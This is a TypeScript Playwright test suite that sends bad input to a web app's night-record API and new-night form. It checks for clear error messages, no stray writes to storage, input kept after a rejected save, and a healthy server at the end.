function checkAnswer(row: Row, answer: { status: number; text: string }) {
  const { expect: expected } = row;
  expect(answer.status, answer.text.slice(0, 500)).toBe(expected.status);
  if (answer.status >= 400) {
    // A clear message: short enough to read, and never an HTML error page.
    expect(answer.text.length, 'the message is short').toBeLessThan(1000);
    expect(answer.text).not.toMatch(/<html|Internal Server Error|at .*\.js:\d+/i);
  }
  if (expected.text) expect(answer.text).toMatch(expected.text);
  if (expected.error || expected.field) {
    const body = JSON.parse(answer.text) as { error?: string; fields?: Record<string, string> };
    if (expected.error) expect(body.error).toMatch(expected.error);
    if (expected.field) {
      const [key, message] = expected.field;
      expect(body.fields?.[key], JSON.stringify(body.fields)).toMatch(message);
    }
  }
  if (expected.report) {
    const report = reportOf(answer.text);
    expect(report.status, JSON.stringify(report).slice(0, 500)).toBe(expected.report.status);
    if (expected.report.fatal) expect(report.fatal).toMatch(expected.report.fatal);
    if (expected.report.rowError) expect(report.errors.map((error) => error.message).join('\n')).toMatch(expected.report.rowError);
  }
}

const allRows = [...nightApiRows, ...filterRows, ...parseRows, ...importRows];

test.describe('bad input', () => {
  test.use({ storageState: editorStatePath });

  let editor: APIRequestContext;
  let anonymous: APIRequestContext;
  test.beforeAll(async ({ playwright }) => {
    editor = await playwright.request.newContext({ baseURL: mainServerURL, storageState: editorStatePath });
    anonymous = await playwright.request.newContext({ baseURL: mainServerURL });
  });
  test.afterAll(async () => {
    await editor.dispose();
    await anonymous.dispose();
  });

  for (const row of allRows) {
    test(row.name, async ({ page }) => {
      const before = writeCounts();
      const answer = await send(row, { page, editor, anonymous });
      checkAnswer(row, answer);
      const after = writeCounts();
      if (row.stores) {
        expect(after.nights, 'one night created').toBe(before.nights + 1);
        expect(storedNightText(row.stores.date)).toMatchObject(row.stores.fields);
      } else {
        expect(after, 'nothing written').toEqual(before);
        expect(storedNightText(REFUSED_DATE)).toBeUndefined();
      }
      await row.then?.({ page, editor, anonymous });
    });
  }

  for (const row of formRows) {
    test(row.name, async ({ page }) => {
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const before = writeCounts();
      await page.goto('/nights/new');
      await fillNewNight(page, row.night);
      await page.getByRole('button', { name: 'Save night' }).click();
      if ('saved' in row.expect) {
        await page.waitForURL((url) => url.pathname === `/nights/${row.night.date}`);
        expect(writeCounts().nights).toBe(before.nights + 1);
        expect(storedNightText(row.night.date)).toMatchObject(row.expect.stored);
        await expectShownAsText(page, `/nights/${row.night.date}`, row.expect.shown);
      } else {
        const field = row.expect.field(page);
        await expect(page.getByRole('alert').filter({ hasText: 'The night was not saved' })).toBeVisible();
        await expect(field).toHaveAttribute('aria-invalid', 'true');
        await expect(field).toHaveAccessibleDescription(row.expect.message);
        // Everything typed is still there.
        await expect(page.getByLabel('Date', { exact: true })).toHaveValue(row.night.date);
        if (row.night.sourceUrl) await expect(page.getByLabel('Source URL')).toHaveValue(row.night.sourceUrl);
        for (const figure of row.night.figures) {
          await expect(countInput(page, 'Launched', figure.weapon)).toHaveValue(figure.launched ?? '');
        }
        expect(writeCounts(), 'nothing written').toEqual(before);
        expect(storedNightText(row.night.date)).toBeUndefined();
      }
      expect(dialogs).toEqual([]);
    });
  }

  test('after all of that, the server still answers', async ({ request }) => {
    expect(allRows.length + formRows.length).toBeGreaterThanOrEqual(45);
    const health = await request.get('/api/health');
    expect(health.status()).toBe(200);
    expect(await health.json()).toMatchObject({ status: 'ok', database: 'ok' });
    expect((await request.get('/')).status()).toBe(200);
  });
});
